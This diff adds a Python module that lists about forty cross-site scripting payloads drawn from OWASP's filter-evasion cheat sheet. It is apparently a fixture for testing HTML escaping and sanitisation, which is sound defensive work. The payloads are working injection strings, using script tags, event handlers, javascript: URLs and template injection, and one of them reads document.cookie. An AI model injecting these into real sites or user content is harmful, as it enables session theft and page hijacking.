@@ -1,0 +1,53 @@
+"""Texts that run a script wherever a page takes them for HTML, an attribute, an address or code.
+
+Each sets `window.pwned` or opens a dialog. Kinds: OWASP's cheat sheet on evading filters.
+"""
+
+from __future__ import annotations
+
+PAYLOADS: tuple[str, ...] = (
+    "<script>pwned=1</script>",
+    "<ScRiPt>pwned=1</sCrIpT>",
+    "<script>alert(document.cookie)</script>",
+    "<script src=data:,pwned=1></script>",
+    "</script><script>pwned=1</script>",
+    "</pre><script>pwned=1</script>",
+    "</textarea><script>pwned=1</script>",
+    "</title><script>pwned=1</script>",
+    "</option></select><script>pwned=1</script>",
+    "<img src=x onerror=pwned=1>",
+    "<img src=x onerror=alert(1)>",
+    '"><img src=x onerror=pwned=1>',
+    "'><img src=x onerror=pwned=1>",
+    '" onfocus=pwned=1 autofocus="',
+    "' onfocus=pwned=1 autofocus='",
+    '" onmouseover="pwned=1',
+    "` onmouseover=pwned=1 `",
+    "<svg onload=pwned=1>",
+    "<svg><script>pwned=1</script></svg>",
+    '<svg><a xlink:href="javascript:pwned=1"><text y=20>a</text></a></svg>',
+    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
+    "<body onload=pwned=1>",
+    "<iframe src=javascript:parent.pwned=1></iframe>",
+    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
+    "<object data=javascript:pwned=1></object>",
+    "<input autofocus onfocus=pwned=1>",
+    "<textarea autofocus onfocus=pwned=1>",
+    "<details open ontoggle=pwned=1>",
+    "<video><source onerror=pwned=1></video>",
+    '<meta http-equiv=refresh content="0;url=javascript:pwned=1">',
+    "<base href=javascript:pwned=1//>",
+    "<form><button formaction=javascript:pwned=1 autofocus>a</button></form>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
+    '<noscript><p title="</noscript><img src=x onerror=pwned=1>">',
+    "&lt;script&gt;pwned=1&lt;/script&gt;",
+    "&#60;script&#62;pwned=1&#60;/script&#62;",
+    "javascript:pwned=1",
+    "data:text/html,<script>parent.pwned=1</script>",
+    "{{ 7*7 }}{% debug %}<script>pwned=1</script>",
+    "${pwned=1}{{constructor.constructor('pwned=1')()}}",
+    "';pwned=1;//",
+    '";pwned=1;//',
+    "<a href=javascript:pwned=1>a</a>",
+    "<style>@import 'data:text/css,*{color:red}';</style><img src=x onerror=pwned=1>",
+)
